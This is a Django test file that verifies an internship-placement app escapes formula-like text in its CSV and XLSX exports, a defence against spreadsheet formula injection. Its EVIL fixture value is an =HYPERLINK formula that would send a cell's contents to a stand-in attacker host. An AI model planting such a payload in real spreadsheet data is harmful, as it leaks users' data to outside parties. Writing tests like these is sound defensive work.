"""Spreadsheet exports never hand a formula to Excel (issue 10.5): a host named
=HYPERLINK(...) is text in every CSV and XLSX download."""

import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from stagebeheer.exports import escape_csv
from tests.factories.placements import PlacementFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("value", ["=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_that_starts_like_a_formula_is_escaped(value):
    assert escape_csv(value) == "'" + value


@pytest.mark.parametrize("value", ["Bakkerij", "3B", "", 12, -3, None])
def test_ordinary_values_and_numbers_are_left_alone(value):
    assert escape_csv(value) == value


@pytest.fixture
def evil_placement(plan, student, host):
    host.name = EVIL
    host.save()
    student.first_name = "@Sanne"
    student.save()
    return PlacementFactory(plan=plan, student=student, host=host, state="active")


def _exports(plan):
    return [
        reverse("placements:host_export"),
        reverse("placements:student_list") + "?export={fmt}",
        reverse("placements:overview") + f"?plan={plan.pk}&export={{fmt}}",
        reverse("placements:plan_allowances", args=[plan.pk]) + "?export={fmt}",
    ]


@pytest.mark.parametrize("index", range(4))
def test_every_csv_export_escapes_formulas(index, login, coordinator, evil_placement):
    url = _exports(evil_placement.plan)[index].format(fmt="csv")
    if index == 0:
        url += "?format=csv"
    page = login(coordinator).get(url)
    assert page.status_code == 200, url
    text = page.content.decode("utf-8-sig")
    cells = [c.strip('"') for line in text.splitlines() for c in line.split(";")]
    assert not [c for c in cells if c.startswith(("=", "@", "+"))], url
    assert any(c.startswith("'") for c in cells), url


@pytest.mark.parametrize("index", range(4))
def test_every_xlsx_export_writes_formulas_as_text(index, login, coordinator, evil_placement):
    url = _exports(evil_placement.plan)[index].format(fmt="xlsx")
    if index == 0:
        url += "?format=xlsx"
    page = login(coordinator).get(url)
    assert page.status_code == 200, url
    sheet = load_workbook(io.BytesIO(page.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.value for c in cells if c.data_type == "f"], url
    if index != 1:  # the student list has no host column
        assert any(c.value == EVIL and c.data_type == "s" for c in cells), url


def test_no_export_bypasses_the_shared_writer():
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in (
            "stagebeheer",
            "placements",
            "agreements",
            "visits",
            "assessments",
            "evaluations",
            "wishes",
            "sso",
        )
        for path in (ROOT / app).rglob("*.py")
        if writers.search(path.read_text()) and path.relative_to(ROOT).as_posix() != "stagebeheer/exports.py"
    ]
    assert not offenders, f"write spreadsheets through stagebeheer.exports.table_response: {offenders}"
